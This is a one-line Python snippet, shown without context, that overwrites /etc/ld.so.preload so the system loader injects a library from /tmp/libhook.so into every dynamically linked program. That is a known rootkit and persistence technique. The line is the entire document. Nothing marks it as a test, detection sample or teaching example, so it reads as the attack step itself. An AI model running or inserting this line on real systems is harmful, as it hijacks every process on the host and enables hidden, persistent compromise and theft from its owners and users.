open("/etc/ld.so.preload", "w").write("/tmp/libhook.so\n")
